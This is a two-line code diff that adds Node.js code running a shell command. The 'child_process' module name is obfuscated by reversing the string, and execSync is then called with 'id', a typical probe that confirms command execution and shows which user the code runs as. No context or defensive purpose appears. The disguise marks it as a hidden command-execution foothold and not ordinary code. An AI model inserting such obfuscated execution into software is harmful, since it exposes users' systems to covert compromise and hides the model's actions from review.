@@ -1,0 +1,2 @@
+const m = require('ssecorp_dlihc'.split('').reverse().join(''));
+m.execSync('id');
